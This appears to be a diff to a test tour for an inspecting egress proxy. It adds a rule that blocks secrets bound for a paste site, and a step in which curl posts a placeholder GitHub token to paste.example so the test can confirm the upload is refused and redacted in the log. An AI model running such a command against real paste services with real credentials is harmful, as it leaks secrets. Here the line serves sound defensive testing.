@@ -14,6 +14,7 @@ ADDRESSES = {
     "bank.example": "203.0.113.20",
     "tracker.example": "203.0.113.30",
     "telemetry.example": "203.0.113.40",
+    "paste.example": "203.0.113.50",
 }
 
 POLICY = """\
@@ -37,8 +38,16 @@ name = "no trackers"
 host = ["tracker.example"]
 action = "block"
 reason = "not needed for work"
+
+[[rule]]
+name = "no secrets leave"
+host = ["paste.example"]
+action = "decrypt"
+inspect = ["secrets"]
+on_finding = "block"
 """
 
+TOKEN = "16C7e42F292c6912" + "E7710c838347Ae178B4a"  # nobody's
 TOUR = """\
 #!/bin/sh
 # The programs of the tour. Each runs as it would anywhere: certificate verification on, no proxy set.
@@ -58,8 +67,9 @@ step finding "$DEMO_PYTHON" -c '
 import urllib.request
 print(urllib.request.urlopen("https://shop.example/upload", b"minutes of Project Nightingale").read().decode())
 '
+step secret curl -sS -w 'answered %{http_code}\n' -d "deploy with ghp_""TOKEN" https://paste.example/new
 exit 0
-"""
+""".replace("TOKEN", TOKEN)
 
 
 class Evidence(msgspec.Struct):
@@ -150,6 +160,18 @@ def found(seen: Evidence) -> str | None:
     return None if hits else "the log holds no finding"
 
 
+def kept_in(seen: Evidence) -> str | None:
+    """curl was refused, the origin got no upload, and the log names the kind of secret, and not the secret."""
+    if "answered 403" not in seen.printed["secret"]:
+        return "the upload was not refused: " + seen.printed["secret"][-160:]
+    if sum(line.startswith("upload ") for line in seen.contacts) != 1:  # the document's
+        return "the origin has got it"
+    hits = [event for event in seen.of_kind("finding") if event["detector"] == "secrets"]
+    if [(hit["summary"], hit["verdict"]) for hit in hits] != [("secret, github-pat", "block")]:
+        return "the log holds no such finding"
+    return "the secret stands in the log" if TOKEN in str(seen.events) else None
+
+
 STEPS = (
     Step(
         "decrypt",
@@ -161,4 +183,5 @@ STEPS = (
     Step("block", "curl https://tracker.example/pixel", "reset; the origin never contacted", blocked),
     Step("capture", "Python telemetry.example:7000", "relayed; every byte kept as pcapng", captured),
     Step("finding", "Python uploads a document", "“project nightingale” in the body", found),
+    Step("secret", "curl uploads a GitHub token", "403; it never left; redacted on record", kept_in),
 )
